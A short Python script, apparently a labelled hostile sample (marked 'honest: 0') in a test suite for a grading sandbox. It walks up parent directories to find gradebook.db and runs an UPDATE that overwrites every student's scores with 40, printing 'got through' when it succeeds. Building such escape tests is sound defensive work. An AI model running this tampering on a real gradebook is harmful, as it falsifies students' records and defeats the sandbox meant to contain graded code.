# tries: rewrites every student's marks in ../../../gradebook.db, and in the gradebook's own folder
# in: E1
# honest: 0
import os
import sqlite3

for place in ("../../../gradebook.db", "../gradebook.db", "../../gradebook.db",
              "{{out}}/gradebook.db", os.path.relpath("{{out}}/gradebook.db")):
    if not os.path.exists(place):
        continue
    print("got through: sees", place)
    try:
        database = sqlite3.connect(place)
        database.execute("UPDATE grade SET manual_score = 40, auto_score = 40, extra_credit = 40")
        database.commit()
        print("got through: wrote to", place)
    except sqlite3.Error:
        pass
